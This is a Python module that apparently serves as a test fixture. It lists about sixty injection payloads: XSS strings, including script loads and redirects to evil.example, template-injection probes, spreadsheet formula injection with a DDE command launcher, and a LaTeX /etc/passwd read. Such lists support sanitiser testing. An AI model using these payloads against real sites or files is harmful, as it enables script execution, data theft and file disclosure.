"""Sixty ways in which text has been made to run where it is shown: in pages, charts, spreadsheets and terminals."""
# ruff: noqa: E501

SCRIPTS = (
    "<script>window.hacked=1</script>", "<ScRiPt>window.hacked=1</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hacked=1>", "<img src=x:x onerror=\"window.hacked=1\">", "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>", "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<body onload=window.hacked=1>", "<iframe src=javascript:window.hacked=1>", "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<object data=javascript:window.hacked=1>", "<embed src=javascript:window.hacked=1>", "<a href=javascript:window.hacked=1>x</a>",
    "<a href=\"java\nscript:window.hacked=1\">x</a>", "<form action=javascript:window.hacked=1><input type=submit>",
    "<input autofocus onfocus=window.hacked=1>", "<details open ontoggle=window.hacked=1>", "<video><source onerror=window.hacked=1>",
    "<math><mtext><script>window.hacked=1</script></mtext></math>", "<style>@import 'javascript:window.hacked=1';</style>",
    "<style>*{background:url(javascript:window.hacked=1)}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>", "<template><script>window.hacked=1</script></template>",
)  # fmt: skip
BREAKS = (
    "\"><script>window.hacked=1</script>", "'><script>window.hacked=1</script>", "</title><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>", "</textarea><script>window.hacked=1</script>", "--><script>window.hacked=1</script>",
    "]]><script>window.hacked=1</script>", "\" onmouseover=window.hacked=1 x=\"", "' onfocus=window.hacked=1 autofocus x='",
    "`;window.hacked=1;`", "';window.hacked=1;//", "\\\";window.hacked=1;//", "</script><script>window.hacked=1</script>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;", "&#60;script&#62;window.hacked=1&#60;/script&#62;", "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hacked=1", "＜script＞window.hacked=1＜/script＞", "<scr\x00ipt>window.hacked=1</scr\x00ipt>",
)  # fmt: skip
TEMPLATES = ("{{ 7*7 }}", "{% for x in ().__class__.__bases__ %}x{% endfor %}", "${7*7}", "#{7*7}", "{{config.__class__}}", "[x](javascript:window.hacked=1)")  # fmt: skip
CELLS = ("=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "$\\frac{1}{0}$ \\input{/etc/passwd}")  # fmt: skip
PAYLOADS = (*SCRIPTS, *BREAKS, *TEMPLATES, *CELLS)
assert len(set(PAYLOADS)) >= 60
